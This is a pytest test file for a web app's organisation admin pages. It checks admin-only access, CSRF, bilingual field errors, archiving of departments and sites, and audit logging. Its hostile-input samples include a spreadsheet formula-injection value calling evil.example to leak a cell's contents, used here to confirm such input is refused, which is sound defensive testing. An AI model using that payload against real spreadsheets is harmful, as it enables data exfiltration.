"""The organisation pages: administrators only, forms that say what is wrong next to the field in
the user's language, hostile input refused with nothing saved, archived sites kept out of new work."""

import re
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from sqlalchemy import func, select

from tests.conftest import AuthActions, csrf_from
from webapp.audit.models import AuditEntry
from webapp.extensions import db
from webapp.org.models import Department, Person, Site
from webapp.plans.models import Plan, ScheduledVisit

EN = {"Accept-Language": "en"}
OTHER_ROLES = ("manager", "sup1", "head1", "staff1")


@pytest.fixture(autouse=True)
def _release(monkeypatch):
    """End the test's own transaction before each request (SQLite's write lock), as another user would."""
    from tests.conftest import FreshContextClient

    original = FreshContextClient.open

    def open_(self, *args, **kwargs):
        db.session.rollback()
        return original(self, *args, **kwargs)

    monkeypatch.setattr(FreshContextClient, "open", open_)


@pytest.fixture
def admin(client, world):
    auth = AuthActions(client)
    auth.login("admin")
    return auth


def _post(client, url, data, headers=None):
    token = csrf_from(client.get("/admin/org/", headers=headers).get_data(as_text=True))
    return client.post(url, data={"csrf_token": token, **data}, headers=headers)


def _site_form(site, **kw):
    data = {"code": site.code, "name": site.name, "name_en": site.name_en or "", "department_id": site.department_id,
            "address": site.address or "", "lat": "", "lng": "", "geofence_radius_m": "200",
            "site_class": site.site_class or "", "manager_person_id": site.manager_person_id or "", "manager_q": ""}
    data.update(kw)
    return data


def _snapshot():
    """Everything the organisation pages could change."""
    db.session.expire_all()
    depts = sorted((d.code, d.name, d.name_en, d.kind, d.parent_id, d.archived_at) for d in
                   db.session.scalars(select(Department)))
    sites = sorted((s.code, s.name, s.department_id, s.address, s.lat, s.lng, s.geofence_radius_m, s.site_class,
                    s.manager_person_id, s.archived_at) for s in db.session.scalars(select(Site)))
    audits = db.session.scalar(select(func.count()).select_from(AuditEntry))
    return depts, sites, audits


def _org_routes(app, world, tree):
    d, s = tree["d1a"].id, world["sites"][0].id
    out = []
    for rule in app.url_map.iter_rules():
        if not rule.endpoint.startswith("org."):
            continue
        url = rule.build({k: v for k, v in {"department_id": d, "site_id": s}.items() if k in rule.arguments})[1]
        out.extend((m, url) for m in sorted(rule.methods - {"HEAD", "OPTIONS"}))
    return out


# ---- who may use the pages ---------------------------------------------------------------------

def test_every_route_is_for_administrators_only(app, client, world, tree):
    routes = _org_routes(app, world, tree)
    assert len(routes) >= 14  # every page and every action
    before = _snapshot()
    auth = AuthActions(client)
    for role in OTHER_ROLES:
        auth.login(role)
        token = auth.csrf()
        for method, url in routes:
            r = client.open(url, method=method, data={"csrf_token": token, "code": "HACK", "name": "x"}
                            if method == "POST" else None)
            assert r.status_code == 403, (role, method, url, r.status_code)
        auth.logout()
    assert _snapshot() == before
    r = client.get("/admin/org/")
    assert r.status_code == 302 and "/login" in r.headers["Location"]


def test_every_post_needs_the_csrf_token(app, client, admin, world, tree):
    before = _snapshot()
    for method, url in _org_routes(app, world, tree):
        if method == "POST":
            r = client.post(url, data={"code": "NOCSRF", "name": "x", "department_id": tree["d1"].id})
            assert r.status_code == 400, url
    assert _snapshot() == before


def test_the_admin_landing_page_links_the_organisation(client, admin):
    assert 'href="/admin/org/"' in client.get("/admin/").get_data(as_text=True)


# ---- the tree ----------------------------------------------------------------------------------

def test_the_tree_shows_levels_counts_and_heads(client, admin, world, tree, create_user):
    create_user("head1b", "dept_head", tree["d1"], display_name="王部长")
    html = client.get("/admin/org/", headers=EN).get_data(as_text=True)
    # nested: D1A1 inside D1A inside D1
    d1 = html.index(f'id="dept-{tree["d1"].id}"')
    d1a = html.index(f'id="dept-{tree["d1a"].id}"')
    d1a1 = html.index(f'id="dept-{tree["d1a1"].id}"')
    assert d1 < d1a < d1a1 and "<details open>" in html
    block = html[d1:d1a]
    assert "Sites: 1" in block and "People: 1" in block and ("Department heads: head1、王部长" in block or "Department heads: 王部长、head1" in block)
    assert "Branch" in html and "Region" in html
    zh = client.get("/admin/org/").get_data(as_text=True)
    assert "组织架构" in zh and "分支机构" in zh


def test_archived_departments_are_listed_apart_on_request(client, admin, world, tree):
    assert _post(client, f"/admin/org/departments/{tree['d1a1'].id}/archive", {}).status_code == 303
    html = client.get("/admin/org/", headers=EN).get_data(as_text=True)
    assert f'id="dept-{tree["d1a1"].id}"' not in html and "Show archived departments" in html
    html = client.get("/admin/org/?archived=1", headers=EN).get_data(as_text=True)
    archived = html[html.index('id="archived-h"'):]
    assert "上海区域" in archived and f"/admin/org/departments/{tree['d1a1'].id}/restore" in archived
    assert _post(client, f"/admin/org/departments/{tree['d1a1'].id}/restore", {}).status_code == 303
    db.session.expire_all()
    assert db.session.get(Department, tree["d1a1"].id).archived_at is None


def test_create_then_move_a_department_through_the_form(client, admin, world, tree):
    r = _post(client, "/admin/org/departments/new", {"code": "D3", "name": "三部", "name_en": "Third",
                                                    "kind": "region", "parent_id": ""})
    assert r.status_code == 303
    d3 = db.session.scalars(select(Department).where(Department.code == "D3")).one()
    assert (d3.name, d3.name_en, d3.kind, d3.parent_id) == ("三部", "Third", "region", None)
    page = client.get(f"/admin/org/departments/{d3.id}/edit").get_data(as_text=True)
    assert f'value="{tree["d1a1"].id}"' in page  # other departments are offered as parents
    r = _post(client, f"/admin/org/departments/{d3.id}/edit", {"code": "D3", "name": "三部", "name_en": "Third",
                                                               "kind": "region", "parent_id": tree["d1a1"].id})
    assert r.status_code == 303
    db.session.expire_all()
    assert db.session.get(Department, d3.id).parent_id == tree["d1a1"].id
    entry = db.session.scalars(select(AuditEntry).where(AuditEntry.entity_id == d3.id).order_by(AuditEntry.id.desc())).first()
    assert entry.action == "department.update" and entry.data["changes"] == {"parent_id": [None, tree["d1a1"].id]}


def test_the_parent_list_leaves_out_the_department_and_its_sub_departments(client, admin, tree):
    page = client.get(f"/admin/org/departments/{tree['d1'].id}/edit").get_data(as_text=True)
    options = re.search(r'<select id="parent_id".*?</select>', page, re.S).group(0)
    assert tree["d2"].id in options
    assert tree["d1"].id not in options and tree["d1a"].id not in options and tree["d1a1"].id not in options


@pytest.mark.parametrize("headers, message", [
    (EN, "A department cannot be placed under itself or its own sub-departments."),
    (None, "部门不能放在自身或其下级部门之下。"),
])
def test_a_cycle_is_refused_next_to_the_parent_field(client, admin, tree, headers, message):
    before = _snapshot()
    d1 = tree["d1"]
    r = _post(client, f"/admin/org/departments/{d1.id}/edit", {"code": "D1", "name": d1.name, "kind": "department",
                                                               "parent_id": tree["d1a1"].id}, headers)
    assert r.status_code == 400
    html = r.get_data(as_text=True)
    assert f'<p class="error" id="parent_id-error" role="alert">{message}</p>' in html
    assert _snapshot() == before


def test_archiving_a_department_with_sites_is_refused_with_a_message(client, admin, tree):
    r = _post(client, f"/admin/org/departments/{tree['d1'].id}/archive", {})
    assert r.status_code == 303
    html = client.get(r.headers["Location"]).get_data(as_text=True)
    assert "该部门仍有 1 个在用运营场所和 1 个在用下级部门：请先迁移或归档它们。" in html
    db.session.expire_all()
    assert db.session.get(Department, tree["d1"].id).archived_at is None


# ---- hostile input -----------------------------------------------------------------------------

HOSTILE = {
    "nul": "\x00",
    "controls only": "\x01\x1b\x7f",
    "vertical tab (a line break)": "第一行\x0b第二行",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "long": "长" * 10_000,
}


@pytest.mark.parametrize("field", ["name", "name_en", "code"])
@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_department_text_is_refused_and_nothing_changes(client, admin, tree, field, value):
    before = _snapshot()
    d1 = tree["d1"]
    data = {"code": "D1", "name": "一部", "kind": "department", "parent_id": "", field: value}
    for url in ("/admin/org/departments/new", f"/admin/org/departments/{d1.id}/edit"):
        r = _post(client, url, dict(data, code=data["code"] if url.endswith("edit") or field == "code" else "NEWD"))
        assert r.status_code == 400, (url, field)
        assert f'id="{field}-error"' in r.get_data(as_text=True)
    assert _snapshot() == before


@pytest.mark.parametrize("field", ["name", "address", "site_class", "code"])
@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_site_text_is_refused_and_nothing_changes(client, admin, world, field, value):
    s1 = world["sites"][0]
    if field == "address" and value == HOSTILE["vertical tab (a line break)"]:
        # An address may have lines: Word's manual line break becomes a newline and is kept.
        r = _post(client, f"/admin/org/sites/{s1.id}/edit", _site_form(s1, **{field: value}))
        assert r.status_code in (302, 303)
        db.session.expire_all()
        assert "\x0b" not in db.session.get(Site, s1.id).address and "\n" in db.session.get(Site, s1.id).address
        return
    before = _snapshot()
    r = _post(client, f"/admin/org/sites/{s1.id}/edit", _site_form(s1, **{field: value}))
    assert r.status_code == 400
    assert f'id="{field}-error"' in r.get_data(as_text=True)
    assert _snapshot() == before


@pytest.mark.parametrize("data, field, message", [
    ({"lat": "31.23", "lng": ""}, "lng", "请同时填写纬度和经度，或都不填。"),
    ({"lat": "", "lng": "121.47"}, "lat", "请同时填写纬度和经度，或都不填。"),
    ({"lat": "95", "lng": "121.47"}, "lat", "数值超出范围。"),
    ({"lat": "abc", "lng": "121.47"}, "lat", "请输入数字。"),
    ({"lat": "nan", "lng": "0"}, "lat", "请输入数字。"),
    ({"geofence_radius_m": "1e9"}, "geofence_radius_m", "请输入整数。"),
    ({"department_id": "no-such-department"}, "department_id", "请从列表中选择一个部门。"),
    ({"manager_person_id": "no-such-person"}, "manager_person_id", "请从列表中选择一个人员。"),
    ({"unexpected": "1"}, "unexpected", None),
])
def test_site_form_errors_stand_next_to_their_field_in_chinese(client, admin, world, data, field, message):
    before = _snapshot()
    s1 = world["sites"][0]
    r = _post(client, f"/admin/org/sites/{s1.id}/edit", _site_form(s1, **data))
    assert r.status_code == 400
    html = r.get_data(as_text=True)
    if message:
        assert f'<p class="error" id="{field}-error" role="alert">{message}</p>' in html
    assert _snapshot() == before


def test_a_duplicate_code_is_a_409_with_the_message_next_to_the_code(client, admin, world):
    before = _snapshot()
    s1, s2 = world["sites"]
    r = _post(client, f"/admin/org/sites/{s1.id}/edit", _site_form(s1, code=s2.code), EN)
    assert r.status_code == 409
    assert '<p class="error" id="code-error" role="alert">This code is already in use.</p>' in r.get_data(as_text=True)
    r = _post(client, "/admin/org/departments/new", {"code": "D2", "name": "又一个二部"})
    assert r.status_code == 409 and "该编号已被使用。" in r.get_data(as_text=True)
    assert _snapshot() == before


def test_search_text_that_is_too_long_is_a_400(client, admin):
    r = client.get("/admin/org/sites?q=" + "x" * 500, headers=EN)
    assert r.status_code == 400 and "This text is too long." in r.get_data(as_text=True)


@pytest.mark.parametrize("query", ["page=abc", "page=-3", "page=" + "9" * 30, "status=nonsense", "department_id=%00",
                                   "site_class=" + "x" * 300, "q=%00%1b"])
def test_odd_list_parameters_never_break_the_list(client, admin, query):
    assert client.get("/admin/org/sites?" + query).status_code == 200


# ---- sites -------------------------------------------------------------------------------------

def test_create_a_site_with_location_class_and_manager(client, admin, tree):
    r = _post(client, "/admin/org/sites/new", {
        "code": "SH-001", "name": "上海南京东路店", "name_en": "Shanghai East Nanjing Rd", "department_id": tree["d1"].id,
        "address": "上海市黄浦区南京东路 1 号", "lat": "31.238", "lng": "121.484", "geofence_radius_m": "150",
        "site_class": "旗舰", "manager_person_id": tree["p1"].id, "manager_q": "张"})
    assert r.status_code == 303
    site = db.session.scalars(select(Site).where(Site.code == "SH-001")).one()
    assert (site.lat, site.lng, site.geofence_radius_m, site.site_class, site.manager_person_id) == (
        31.238, 121.484, 150, "旗舰", tree["p1"].id)
    entry = db.session.scalars(select(AuditEntry).where(AuditEntry.entity_id == site.id)).one()
    assert entry.action == "site.create" and entry.data["changes"]["site_class"] == [None, "旗舰"]


def test_the_new_site_form_defaults_the_geofence_and_offers_abc(client, admin, tree):
    html = client.get(f"/admin/org/sites/new?department={tree['d1'].id}").get_data(as_text=True)
    assert 'name="geofence_radius_m" type="number" inputmode="numeric" step="1"' in html and 'value="200"' in html
    assert 'step="0.000001" min="-90" max="90"' in html and 'step="0.000001" min="-180" max="180"' in html
    assert '<option value="A"></option><option value="B"></option><option value="C"></option>' in html
    assert "张店长" in html and "李经理" not in html


def test_the_manager_picker_offers_only_people_of_the_sites_department(client, admin, world, tree):
    db.session.add(Person(name="张助理", department_id=tree["d1a"].id))  # a sub-department: not offered
    db.session.commit()
    s1 = world["sites"][0]
    html = client.get(f"/admin/org/sites/{s1.id}/edit").get_data(as_text=True)
    picker = re.search(r'<select id="manager_person_id".*?</select>', html, re.S).group(0)
    assert tree["p1"].id in picker and tree["p2"].id not in picker and "张助理" not in picker
    # the htmx search: by department and text
    r = client.get(f"/admin/org/people?department_id={tree['d2'].id}&manager_q=李")
    assert r.status_code == 200 and tree["p2"].id in r.get_data(as_text=True) and tree["p1"].id not in r.get_data(as_text=True)
    assert tree["p1"].id not in client.get(f"/admin/org/people?department_id={tree['d1'].id}&manager_q=李").get_data(as_text=True)
    # posting someone of another department anyway is refused next to the field
    before = _snapshot()
    r = _post(client, f"/admin/org/sites/{s1.id}/edit", _site_form(s1, manager_person_id=tree["p2"].id), EN)
    assert r.status_code == 400
    assert ('id="manager_person_id-error" role="alert">Choose a person of the site&#39;s department (or leave it empty).'
            in r.get_data(as_text=True))
    assert _snapshot() == before


def test_moving_a_site_through_the_form_explains_and_keeps_its_visits(client, admin, world, tree):
    s1, v1 = world["sites"][0], world["visits"][0]
    form = client.get(f"/admin/org/sites/{s1.id}/edit", headers=EN).get_data(as_text=True)
    assert "visits already made keep their department" in form
    r = _post(client, f"/admin/org/sites/{s1.id}/edit", _site_form(s1, department_id=tree["d2"].id), EN)
    assert r.status_code == 303
    page = client.get(r.headers["Location"], headers=EN).get_data(as_text=True)
    assert "The site was moved. Its past visits keep their department; new visits follow the site." in page
    db.session.expire_all()
    assert db.session.get(Site, s1.id).department_id == tree["d2"].id
    assert db.session.get(type(v1), v1.id).department_id == tree["d1"].id
    entry = db.session.scalars(select(AuditEntry).where(AuditEntry.entity_id == s1.id)).one()
    assert entry.action == "site.move" and entry.data["changes"] == {"department_id": [tree["d1"].id, tree["d2"].id]}


def test_the_site_page_shows_its_visits_count_and_last_visit(client, admin, world, create_visit):
    s1 = world["sites"][0]
    v = create_visit(s1, world["users"]["sup1"], status="completed")
    v.started_at = datetime(2026, 11, 3, 2, tzinfo=UTC)
    v.completed_at = datetime(2026, 11, 3, 4, tzinfo=UTC)
    db.session.commit()
    html = client.get(f"/admin/org/sites/{s1.id}", headers=EN).get_data(as_text=True)
    assert re.search(r"<dt>Visits</dt><dd>2</dd>", html)
    assert re.search(r"<dt>Last visit</dt><dd>Nov 3, 2026</dd>", html)


def test_the_site_list_searches_and_filters(client, admin, world, tree):
    db.session.add_all([
        Site(code="SUB-1", name="区域门店", department_id=tree["d1a1"].id, address="上海市徐汇区", site_class="B"),
        Site(code="OLD-1", name="旧门店", department_id=tree["d2"].id, site_class="C",
             archived_at=datetime(2026, 1, 1, tzinfo=UTC)),
    ])
    db.session.commit()

    def codes(query):
        r = client.get("/admin/org/sites?" + query)
        assert r.status_code == 200
        return set(re.findall(r'<td data-label="[^"]+">((?:S|SUB|OLD)[-\w]*)</td>', r.get_data(as_text=True)))

    assert codes("") == {"S1", "S2", "SUB-1"}
    assert codes(f"department_id={tree['d1'].id}") == {"S1", "SUB-1"}  # its sub-departments included
    assert codes(f"department_id={tree['d1a'].id}") == {"SUB-1"}
    assert codes("q=徐汇") == {"SUB-1"} and codes("q=sub") == {"SUB-1"} and codes("q=%25") == set()
    assert codes("site_class=B") == {"SUB-1"}
    assert codes("status=archived") == {"OLD-1"} and codes("status=all") == {"S1", "S2", "SUB-1", "OLD-1"}


def test_archive_and_restore_a_site(client, admin, world):
    s1 = world["sites"][0]
    assert _post(client, f"/admin/org/sites/{s1.id}/archive", {}).status_code == 303
    html = client.get(f"/admin/org/sites/{s1.id}", headers=EN).get_data(as_text=True)
    assert "This site is archived" in html and "Restore site" in html
    assert _post(client, f"/admin/org/sites/{s1.id}/restore", {}).status_code == 303
    db.session.expire_all()
    assert db.session.get(Site, s1.id).archived_at is None
    actions = db.session.scalars(select(AuditEntry.action).where(AuditEntry.entity_id == s1.id)
                                 .order_by(AuditEntry.id)).all()
    assert actions == ["site.archive", "site.restore"]


# ---- archived sites and new work ---------------------------------------------------------------

def _archive(site):
    site.archived_at = datetime(2026, 11, 1, tzinfo=UTC)
    db.session.commit()


def test_archived_sites_are_not_offered_for_new_plans(client, world, create_template):
    s1, s2 = world["sites"]
    _archive(s2)
    auth = AuthActions(client)
    auth.login("sup1")
    html = client.get("/plans/new").get_data(as_text=True)
    assert f'value="{s1.id}"' in html and f'value="{s2.id}"' not in html
    token = auth.csrf()
    r = client.post("/plans/new", headers=EN, data={
        "csrf_token": token, "title": "新计划", "period_type": "quarterly", "year": "2026", "quarter": "4",
        "site_ids": [s2.id]})
    assert r.status_code == 400
    assert "An archived site or department cannot be added to a plan; choose another." in r.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(Plan)) == 0


def test_a_plan_that_already_names_an_archived_site_keeps_working(client, world, create_template):
    s1, s2 = world["sites"]
    sup1 = world["users"]["sup1"]
    tpl = create_template("ARCH")
    plan = Plan(title="旧计划", period_type="quarterly", period_start=date(2026, 10, 1), period_end=date(2026, 12, 31),
                status="draft", author_id=sup1.id, sites=[s2])
    db.session.add(plan)
    db.session.flush()
    row = ScheduledVisit(plan_id=plan.id, site_id=s2.id, window_start=date(2026, 12, 1), window_end=date(2026, 12, 3),
                         supervisor_ids=[sup1.id], template_id=tpl.id, visit_ids=[])
    db.session.add(row)
    db.session.commit()
    _archive(s2)
    auth = AuthActions(client)
    auth.login("sup1")
    detail = client.get(f"/plans/{plan.id}").get_data(as_text=True)
    assert f'value="{s2.id}"' in detail  # still offered in this plan's schedule
    token = auth.csrf()
    r = client.post(f"/plans/{plan.id}/schedule/{row.id}", data={
        "csrf_token": token, "site_id": s2.id, "window_start": "2026-12-02", "window_end": "2026-12-04",
        "supervisor_ids": [sup1.id], "template_id": tpl.id})
    assert r.status_code in (302, 303)
    # but another plan cannot schedule it
    other = Plan(title="新计划", period_type="quarterly", period_start=date(2026, 10, 1), period_end=date(2026, 12, 31),
                 status="draft", author_id=sup1.id)
    db.session.add(other)
    db.session.commit()
    page = client.get(f"/plans/{other.id}").get_data(as_text=True)
    assert f'value="{s2.id}"' not in page
    r = client.post(f"/plans/{other.id}/schedule", headers=EN, data={
        "csrf_token": token, "site_id": s2.id, "window_start": "2026-12-02", "window_end": "2026-12-04",
        "supervisor_ids": [sup1.id], "template_id": tpl.id})
    assert r.status_code == 400
    assert "This site is archived: it is offered for no new visit. Choose another." in r.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(ScheduledVisit).where(
        ScheduledVisit.plan_id == other.id)) == 0


def test_the_phone_hides_archived_sites_when_starting_a_visit(app):
    """The phone lists sites for an ad-hoc visit from its synced store; the pull carries archived_at."""
    source = Path(app.static_folder, "js/app/views/home.js").read_text(encoding="utf-8")
    assert "!s.data.archived_at" in source
